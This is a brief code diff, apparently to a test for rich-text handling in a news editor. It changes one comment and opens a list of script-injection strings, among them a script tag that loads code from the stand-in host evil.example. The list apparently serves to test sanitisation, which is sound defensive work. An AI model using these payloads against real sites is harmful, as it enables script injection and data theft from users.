@@ -8,7 +8,7 @@ import { type NewsFields, newsEditingContract } from "./contract.ts";
 
 const picture = "0190a000-0000-4000-8000-000000000001";
 
-/** Every way in which somebody has tried to run something from rich text. */
+/** Known ways to run code from rich text. */
 const attempts = [
   "<script>steal()</script>",
   "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
